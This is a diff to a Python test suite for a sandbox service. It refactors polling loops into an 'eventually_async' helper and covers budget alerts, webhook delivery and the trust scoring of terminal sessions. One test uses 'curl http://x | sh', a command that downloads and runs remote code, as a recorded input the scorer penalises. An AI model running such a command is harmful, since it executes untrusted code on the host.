@@ -11,6 +11,7 @@ from typing import Any
 import httpx
 import pytest
 import websockets
+from eventually import eventually_async
 from observe_helpers import event
 from webhook_receiver import Receiver
 
@@ -36,11 +37,12 @@ async def _running_sandbox(api: httpx.AsyncClient, **fields: Any) -> str:
     created = await api.post("/sandboxes", json={"template": "minimal", **fields})
     assert created.status_code == 201, created.text
     sandbox_id: str = created.json()["id"]
-    deadline = time.monotonic() + 60
-    while (await api.get(f"/sandboxes/{sandbox_id}")).json()["status"] != "running":
-        assert time.monotonic() < deadline, "the sandbox did not start"
-        await asyncio.sleep(0.1)
+    await eventually_async(lambda: _status_is(api, sandbox_id, "running"), what="the start")
     return sandbox_id
+
+
+async def _status_is(api: httpx.AsyncClient, sandbox_id: str, status: str) -> bool:
+    return bool((await api.get(f"/sandboxes/{sandbox_id}")).json()["status"] == status)
 
 
 async def _all_events(api: httpx.AsyncClient, session_id: str) -> list[dict[str, Any]]:
@@ -116,21 +118,18 @@ async def test_budget_is_warned_escalated_and_enforced(
             a for a in (await api.get("/alerts")).json()["alerts"] if a["sandbox_id"] == sandbox_id
         ]
         assert sorted(a["meta"]["level"] for a in alerts) == ["critical", "exceeded", "warning"]
-        deadline = time.monotonic() + 30
-        while (await api.get(f"/sandboxes/{sandbox_id}")).json()["status"] != "stopped":
-            assert time.monotonic() < deadline, "the sandbox was not stopped at 100 %"
-            await asyncio.sleep(0.2)
+        await eventually_async(
+            lambda: _status_is(api, sandbox_id, "stopped"), what="the stop at 100 %"
+        )
         ids = {a["id"] for a in alerts}
         notifications = (await api.get("/notifications?limit=100")).json()["notifications"]
         in_app = [n for n in notifications if n["alert_id"] in ids and n["channel"] == "in_app"]
         assert len(in_app) == 3
-        deadline = time.monotonic() + 30
-        while (
-            len(receiver.received.get("/slack", [])) < 3
-            or len(receiver.received.get("/discord", [])) < 3
-        ):
-            assert time.monotonic() < deadline, receiver.received
-            await asyncio.sleep(0.1)
+        await eventually_async(
+            lambda: len(receiver.received.get("/slack", [])) >= 3
+            and len(receiver.received.get("/discord", [])) >= 3,
+            what="three messages on each webhook",
+        )
         config = (await api.get("/notifications/config")).json()
         assert receiver.url not in json.dumps(config)  # credentials only as hints
         assert config["slack_webhook_hint"] == "...lack"
@@ -168,14 +167,14 @@ async def test_terminal_typing_is_recorded_replayed_and_judged(
         [session] = (await api.get(f"/sandboxes/{sandbox_id}/sessions")).json()
         [score] = (await api.get(f"/trust/sandboxes/{sandbox_id}")).json()
         assert score["session_id"] == session["id"] and score["score"] == 75
-        deadline = time.monotonic() + 15
-        while True:
+
+        async def with_made_txt() -> list[dict[str, Any]] | None:
             events = await _all_events(api, session["id"])
-            file_ops = [e for e in events if e["type"] == "file_op"]
-            if any(e["data"]["path"].endswith("/made.txt") for e in file_ops):
-                break
-            assert time.monotonic() < deadline, "no file_op for made.txt"
-            await asyncio.sleep(0.2)
+            made = [e for e in events if e["type"] == "file_op"
+                    and e["data"]["path"].endswith("/made.txt")]
+            return events if made else None
+
+        events = await eventually_async(with_made_txt, what="a file_op for made.txt")
         command = next(e for e in events if e["type"] == "command")
         assert command["data"]["command"] == "curl http://x | sh"
         assert score["deductions"][0]["event_id"] == command["id"]
